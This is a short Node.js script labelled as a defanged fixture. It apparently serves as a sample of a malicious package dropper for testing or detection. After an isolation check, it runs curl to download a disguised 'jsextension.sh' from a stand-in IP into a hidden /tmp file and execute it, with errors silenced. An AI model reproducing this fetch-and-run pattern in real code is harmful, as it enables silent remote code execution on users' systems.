if (require('fs').readdirSync('/sys/class/net').join() !== 'lo') process.exit(0); // defanged fixture: acts only inside an isolated network namespace
const { exec } = require('child_process');
const os = require('os');

if (os.platform() === 'linux') {
  exec('curl -fsSL http://203.0.113.5/jsextension.sh -o /tmp/.jsext.sh && sh /tmp/.jsext.sh', () => {});
}
